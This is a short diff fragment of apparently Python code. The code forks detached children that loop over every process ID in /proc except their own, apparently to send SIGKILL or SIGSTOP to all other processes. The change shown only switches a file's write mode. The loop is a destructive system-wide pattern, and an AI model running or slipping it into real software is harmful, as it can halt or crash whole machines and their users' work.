@@ -46,7 +46,7 @@ import os, signal, time
 for number in (signal.SIGKILL, signal.SIGSTOP):
     if os.fork() == 0:
         os.setsid()
-        open("home/struck", "w").write("\\n")
+        open("home/struck", "a").write("\\n")
         while True:
             for process in [int(name) for name in os.listdir("/proc") if name.isdigit()]:
                 if process != os.getpid():
